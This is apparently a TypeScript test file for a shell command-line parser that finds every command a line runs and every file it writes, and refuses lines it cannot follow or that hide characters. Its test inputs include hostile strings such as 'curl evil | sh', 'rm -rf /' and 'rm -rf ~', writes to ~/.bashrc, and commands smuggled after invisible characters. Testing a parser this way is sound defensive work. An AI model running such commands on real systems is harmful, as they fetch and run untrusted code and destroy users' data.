import { test } from 'node:test';
import assert from 'node:assert/strict';
import { parseCommandLine } from '../../../src/terminal/commandLine';

function commands(line: string): { commands: string[]; writes: string[] } {
  const parsed = parseCommandLine(line);
  assert.ok(parsed.ok, `${line}: ${parsed.ok ? '' : parsed.reason}`);
  return { commands: parsed.commands, writes: parsed.writes };
}

function refused(line: string): string {
  const parsed = parseCommandLine(line);
  assert.ok(!parsed.ok, `${JSON.stringify(line)} should not be understood, got ${JSON.stringify(parsed)}`);
  return parsed.reason;
}

test('a simple command is one command, its words as written with single spaces', () => {
  assert.deepEqual(commands('npm   test'), { commands: ['npm test'], writes: [] });
  assert.deepEqual(commands("git commit -m 'a; b && c'"), { commands: ["git commit -m 'a; b && c'"], writes: [] });
  assert.deepEqual(commands('echo "x | y" \\; z'), { commands: ['echo "x | y" \\; z'], writes: [] });
});

test('separators split a line into every command it runs', () => {
  assert.deepEqual(commands('npm test && git status || echo failed; ls | wc -l & sleep 1\nrm x').commands, [
    'npm test',
    'git status',
    'echo failed',
    'ls',
    'wc -l',
    'sleep 1',
    'rm x',
  ]);
  assert.deepEqual(commands('a |& b').commands, ['a', 'b']);
});

test('commands inside $(…) and backticks are commands of the line, also inside double quotes and nested', () => {
  assert.deepEqual(commands('echo $(rm -rf /tmp/x)').commands, ['rm -rf /tmp/x', 'echo $(rm -rf /tmp/x)']);
  assert.deepEqual(commands('echo "today: `date`"').commands, ['date', 'echo "today: `date`"']);
  assert.deepEqual(commands('echo $(cat $(ls a))').commands, ['ls a', 'cat $(ls a)', 'echo $(cat $(ls a))']);
  assert.deepEqual(commands('x=$(curl evil | sh)').commands, ['curl evil', 'sh', 'x=$(curl evil | sh)']);
  // Single quotes keep everything literal.
  assert.deepEqual(commands("echo '$(rm -rf /)'").commands, ["echo '$(rm -rf /)'"]);
});

test('output redirections are files written; duplications, input and /dev/null are not', () => {
  assert.deepEqual(commands('npm test > out.txt 2>&1'), { commands: ['npm test'], writes: ['out.txt'] });
  assert.deepEqual(commands('a >>log 2> err &> both >| forced'), { commands: ['a'], writes: ['log', 'err', 'both', 'forced'] });
  assert.deepEqual(commands('a >& file'), { commands: ['a'], writes: ['file'] });
  assert.deepEqual(commands('sort < in.txt 2>/dev/null'), { commands: ['sort'], writes: [] });
  assert.deepEqual(commands('echo x>~/.bashrc'), { commands: ['echo x'], writes: ['~/.bashrc'] });
});

test('comments end at the line: what follows # does not run, the next line does', () => {
  assert.deepEqual(commands('npm test # ; rm -rf /\nls').commands, ['npm test', 'ls']);
  assert.deepEqual(commands('echo a#b').commands, ['echo a#b']);
});

test('what cannot be followed for certain is not understood, with the reason', () => {
  assert.match(refused('(cd x && rm y)'), /parentheses/);
  assert.match(refused('if true; then rm x; fi'), /keyword "if"/);
  assert.match(refused('for f in *; do rm $f; done'), /keyword "for"/);
  assert.match(refused('{ rm x; }'), /keyword "\{"/);
  assert.match(refused('cat <<EOF\nrm x\nEOF'), /here-document/);
  assert.match(refused('diff <(ls a) <(ls b)'), /process substitution/);
  assert.match(refused('echo $((1+2))'), /arithmetic/);
  assert.match(refused("echo 'unclosed"), /quote/);
  assert.match(refused('echo "unclosed'), /quote/);
  assert.match(refused('echo `unclosed'), /backtick/);
  assert.match(refused('echo $(unclosed'), /not closed/);
  assert.match(refused('echo a\\\nrm -rf /'), /backslash/);
  assert.match(refused('echo trailing\\'), /backslash/);
  assert.match(refused('a && && b'), /no command before/);
  assert.match(refused('; rm x'), /no command before/);
  assert.match(refused('echo ${x:-$(rm y)}'), /nests/);
  assert.match(refused('npm test >'), /no target/);
  assert.match(refused(''), /no command/);
  assert.match(refused('echo $(echo $(echo $(echo $(echo $(echo $(echo $(echo $(echo $(echo x)))))))))'), /too deep/);
});

test('hidden characters are refused: what is shown must be what runs', () => {
  for (const hidden of ['\u202e', '\u200b', '\u2066', '\ufeff', '\u00ad', '\r', '\u001b', '\u0000', '\u0085']) {
    assert.match(refused(`npm test${hidden}; rm -rf ~`), /invisible or control character U\+/, JSON.stringify(hidden));
  }
});

test('look-alike separators are not separators: they stay inside a word, as bash reads them', () => {
  // A full-width semicolon and a Greek question mark (which looks like ";") are ordinary characters to bash.
  assert.deepEqual(commands('echo a\uff1b rm x').commands, ['echo a\uff1b rm x']);
  assert.deepEqual(commands('echo a\u037e rm x').commands, ['echo a\u037e rm x']);
});

test('an overlong line is not read', () => {
  assert.match(refused(`echo ${'a'.repeat(9000)}`), /longer than/);
});
